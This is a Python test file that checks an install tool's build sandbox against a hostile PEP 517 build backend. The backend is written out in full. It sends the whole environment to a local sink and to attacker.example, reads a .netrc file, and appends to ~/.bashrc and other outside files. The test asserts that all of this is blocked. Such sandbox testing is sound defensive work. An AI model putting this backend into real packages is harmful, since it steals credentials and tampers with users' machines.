"""Builds run in the sandbox: what a hostile one tries comes to nothing, and an honest one doesn't notice."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import pytest

from support.builders import make_sdist
from support.held import OLD

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from support.envs import Env
    from support.index_server import IndexServer

LET_THROUGH = '[decisions]\nhigh = "warn"\nmedium = "allow"\n'
"""What reading the code would have held is let through, so that the sandbox is all there is."""
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "GITHUB_TOKEN": "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "PLAIN_LOOKING": "https://user:hunter2hunter2@example.org/",
}

# Tries everything, keeps what came of it in a file of the source tree, which becomes part of the wheel.
ATTACK = """
import json, os, socket, sys, urllib.request

def attack(here, port, outside, secret):
    done = {"environ": dict(os.environ), "did": [], "argv": sys.argv, "cwd": os.getcwd()}
    def attempt(name, action):
        try:
            action()
            done["did"].append(name)
        except Exception as error:
            done[name] = repr(error)
    body = json.dumps(dict(os.environ)).encode()
    def post(url):
        urllib.request.urlopen(url, body, 5).read()
    attempt("post", lambda: post("http://127.0.0.1:%d/" % port))
    attempt("post by name", lambda: post("http://localhost:%d/" % port))
    attempt("post elsewhere", lambda: post("http://attacker.example/collect"))
    def write(path):
        with open(path, "a") as file:
            file.write("evil")
    for path in outside:
        attempt("write " + path, lambda: write(path))
    attempt("read", lambda: done.update(secret=open(secret).read()))
    attempt("home", lambda: write(os.path.expanduser("~/.bashrc")))
    path = os.path.join(here, "seen.json")
    if not os.path.exists(path):
        open(path, "w").write("[]")
    seen = json.load(open(path))
    with open(path, "w") as file:
        json.dump([*seen, done], file)
"""


class Sink:
    """A server outside that waits for what is stolen."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                sink.received.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]


@pytest.fixture
def sink() -> Iterator[Sink]:
    made = Sink()
    thread = threading.Thread(target=made.server.serve_forever)
    thread.start()
    yield made
    made.server.shutdown()
    thread.join()
    made.server.server_close()


def hostile_files(sink: Sink, outside: list[Path], secret: Path) -> dict[str, str]:
    """A PEP 517 backend that attacks when it is loaded, and then builds."""
    call = f"attack(os.path.dirname(os.path.abspath(__file__)), {sink.port}, {[str(p) for p in outside]!r}, {str(secret)!r})\n"
    return {
        "evil_backend.py": ATTACK + call + "from _test_backend import *\n",
        "demo.py": "VERSION = '1.0'\n",
        "seen.json": "[]",
    }


EVIL_PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'


def test_a_hostile_backend_reaches_nothing_and_learns_nothing(
    shared: Env, index: IndexServer, tmp_path: Path, target: Path, sink: Sink
) -> None:
    index.html_for_pip22 = True
    secret = shared.home.path / ".netrc"
    secret.write_text("machine example.org login me password hunter2\n")
    outside = [tmp_path / "outside", shared.home.path / ".profile", shared.home.tmp / "planted"]
    files = hostile_files(sink, outside, secret)
    index.add(make_sdist(tmp_path, "demo", "1.0", pyproject=EVIL_PYPROJECT, files=files), upload_time=OLD)
    result = shared.run_pip(
        "install",
        "-t",
        str(target),
        "demo",
        index=index,
        policy=LET_THROUGH,
        env={**SECRETS, "TMPDIR": "/dev/shm/h5"},
    )
    assert result.returncode == 0, result
    assert sink.received == []
    assert not [path for path in outside if path.exists()]
    seen = json.loads((target / "seen.json").read_text())
    assert len(seen) >= 2, "the backend is loaded for its requirements, the metadata and the wheel"
    for done in seen:
        # Writing into a place of its own is no harm: what counts is what is there outside.
        assert [name for name in done["did"] if not name.startswith(("write", "home"))] == [], done
        assert "secret" not in done
        assert not set(SECRETS) & set(done["environ"]), done
        assert not [value for value in done["environ"].values() if "hunter2" in value]
    line = "veln-hook: the build of demo 1.0 tried to reach attacker.example"
    assert result.out.count(line) == 1, result
    assert 'allow it with sandbox.allow_hosts = ["attacker.example"] in the policy' in result.out
